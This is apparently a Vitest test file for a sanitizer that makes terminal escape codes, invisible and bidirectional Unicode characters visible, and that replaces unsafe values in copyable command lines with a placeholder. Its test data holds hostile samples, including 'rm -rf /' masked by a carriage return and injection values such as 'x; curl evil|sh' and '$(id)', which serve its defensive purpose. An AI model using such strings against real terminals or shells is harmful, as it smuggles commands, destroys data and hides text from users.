import { describe, expect, test } from "vitest";
import { firstLine, plainWord, printable, printableJson, printableLines } from "../../../src/domain/printable.ts";

const HOSTILE = [
  ["an escape sequence", "\u001b[31mred", "\\x1b[31mred"],
  ["an escape sequence in one C1 character", "\u009b2J", "\\x9b2J"],
  ["a title that a terminal would take", "\u001b]0;owned\u0007", "\\x1b]0;owned\\x07"],
  ["a carriage return that hides what was before", "rm -rf /\rls     ", "rm -rf /\\rls     "],
  ["a backspace", "a\bb", "a\\x08b"],
  ["text that is turned around", "a\u202eb\u2066c", "a\\u{202e}b\\u{2066}c"],
  ["text of no width", "a\u200bb\ufeffc\u00ad", "a\\u{200b}b\\u{feff}c\\xad"],
  ["a line separator", "a\u2028b", "a\\u{2028}b"],
  ["tag characters", "a\u{e0041}", "a\\u{e0041}"],
  ["letters that show nothing", "a\u3164b\u115fc\u2800", "a\\u{3164}b\\u{115f}c\\u{2800}"],
  ["marks that change nothing that is seen", "a\u034f\ufe0f\u{e0100}", "a\\u{034f}\\u{fe0f}\\u{e0100}"],
  ["half of a surrogate pair", "a\ud800", "a\\u{d800}"],
] as const;

describe("what a terminal would interpret or not show is made visible", () => {
  test.each(HOSTILE)("%s", (_what, text, shown) => expect(printable(text)).toBe(shown));

  test("while text of any language is left alone", () => {
    const text = "für 漢字 عربي עברית 🙂 naïve — “quoted”";
    expect(printable(text)).toBe(text);
  });
});

test("one line stays one line", () => expect(printable("a\nb\tc")).toBe("a\\nb\\tc"));

test("a text of several lines keeps its line breaks and tabs", () => {
  expect(printableLines("a\tb\n\u001b[2J\n")).toEqual(["a\tb", "\\x1b[2J"]);
});

test.each(HOSTILE)("JSON with %s holds no such character and is the same value", (_what, text) => {
  const json = printableJson({ text }, 2);
  expect(json).not.toMatch(/(?!\n)[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u);
  expect(JSON.parse(json)).toEqual({ text });
});

test.each([
  ["5503fd40-284a-4e81-a28a-be5ae9eaa733", "5503fd40-284a-4e81-a28a-be5ae9eaa733"],
  ["restart-web_1:a.b", "restart-web_1:a.b"],
  ["promotion/5503fd40", "promotion/5503fd40"],
  ["x; curl evil|sh", "ID"],
  ["$(id)", "ID"],
  ["--url=http://evil", "ID"],
  ["~", "ID"],
  ["a\nb", "ID"],
  ["a\n", "ID"],
  ["", "ID"],
])("a command line for %j that is shown to be copied holds %j", (value, shown) => {
  expect(plainWord(value, "ID")).toBe(shown);
});

test("the first of several lines is shown in a table", () => {
  expect(firstLine("payload is wrong\n  at steps")).toBe("payload is wrong ...");
  expect(firstLine("\u001b[2Jone\n")).toBe("\\x1b[2Jone");
});
